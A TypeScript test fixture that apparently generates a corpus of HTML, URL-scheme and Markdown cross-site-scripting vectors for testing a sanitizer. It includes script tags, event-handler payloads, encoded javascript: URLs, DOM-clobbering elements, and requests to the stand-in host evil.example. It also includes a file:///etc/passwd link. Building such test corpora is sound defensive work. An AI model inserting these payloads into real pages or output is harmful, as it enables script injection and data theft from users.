/**
 * What a model, a file or a person might write to get a script, a request or an element of theirs into the page. A script
 * that runs calls `pwned()`; a request that leaves goes to evil.example.
 */

const run = 'pwned()';
const evil = 'https://evil.example';

const html = [
  `<script>${run}</script>`,
  `<script src="${evil}/a.js"></script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<scr<script>ipt>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${evil}/pixel.gif">`,
  `<img/src="x"/onerror="${run}"/>`,
  `<image src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="${evil}/e.swf">`,
  `<link rel=stylesheet href="${evil}/a.css">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<form action="${evil}"><button>Go</button></form>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video src="${evil}/v.mp4" autoplay onloadstart=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<style>@import url(${evil}/a.css);</style>`,
  `<div style="background:url(${evil}/b.png);position:fixed;inset:0">over everything</div>`,
  `<p style="animation-name:x" onanimationstart=${run}>x</p>`,
  `<a href="javascript:${run}">x</a>`,
  `<a id=root name=root>x</a>`,
  `<form id=document><input name=cookie></form>`,
  `<img name=getElementById>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg><use href="${evil}/s.svg#a"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<template><script>${run}</script></template>`,
  `<portal src="${evil}"></portal>`,
];

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;&#x61;vascript:${run}`,
  `javascript&colon;${run}`,
  `javascript%3A${run}`,
  `\u0001javascript:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload="${run}"/>`,
  `blob:${evil}/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${run}`,
];

const links = schemes.flatMap((url) => [
  `[click](${url})`,
  `[click](<${url}>)`,
  `![picture](${url})`,
  `<${url}>`,
  `[by name][x]\n\n[x]: ${url}`,
]);

const markdown = [
  `![pixel](${evil}/pixel.gif)`,
  `![pixel][p]\n\n[p]: ${evil}/pixel.gif "title"`,
  `[![inner](${evil}/a.png)](javascript:${run})`,
  `[x](${evil} "title\\" onmouseover=${run} x=\\"")`,
  `[x](${evil} '"><img src=x onerror=${run}>')`,
  `![alt" onerror="${run}](x)`,
  `![<img src=x onerror=${run}>](${evil}/a.png)`,
  `[<img src=x onerror=${run}>](${evil})`,
  `| a | <img src=x onerror=${run}> |\n| :-: | --- |\n| <svg onload=${run}> | [x](javascript:${run}) |`,
  `| a |\n| :--"onload=${run}: |\n| b |`,
  `\`\`\`"><img src=x onerror=${run}>\ncode\n\`\`\``,
  `\`\`\`html onload=${run} style=color:red id=root\n<script>${run}</script>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run}>"] --> B; click A href "javascript:${run}"\n\`\`\``,
  `\`\`\`math\n\\href{javascript:${run}}{x}\n\`\`\``,
  `$$\\href{javascript:${run}}{x} \\includegraphics{${evil}/a.png}$$`,
  `$\\htmlStyle{background:url(${evil}/a)}{x}$`,
  `~~~__proto__\nconstructor\n~~~`,
  `a[^1]\n\n[^1]: <img src=x onerror=${run}> [x](javascript:${run})`,
  `a[^root]\n\n[^root]: an id from a name`,
  `# <a name=root>Heading</a> {#root onclick=${run}}`,
  `- [ ] <input onfocus=${run} autofocus>`,
  `www.evil.example/<script>${run}</script>`,
  `https://evil.example/"onmouseover="${run}`,
  `<https://evil.example/"onmouseover="${run}>`,
  `x@evil.example"onmouseover=${run}`,
  `\\<script>${run}\\</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `**<b onmouseover=${run}>x**</b>`,
  `> <script>\n> ${run}\n> </script>`,
  `1. <img src=x\n   onerror=${run}>`,
  `\u202e<script>${run}</script>`,
];

/** Where a vector may stand. */
const places: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `Some words before. ${vector} And after.`,
  (vector) => `> ${vector.replaceAll('\n', '\n> ')}`,
  (vector) => `- item\n\n  ${vector.replaceAll('\n', '\n  ')}`,
];

export const vectors: readonly string[] = [...html, ...links, ...markdown];

/** Every vector in every place. */
export const hostileTexts: readonly string[] = places.flatMap((place) => vectors.map(place));
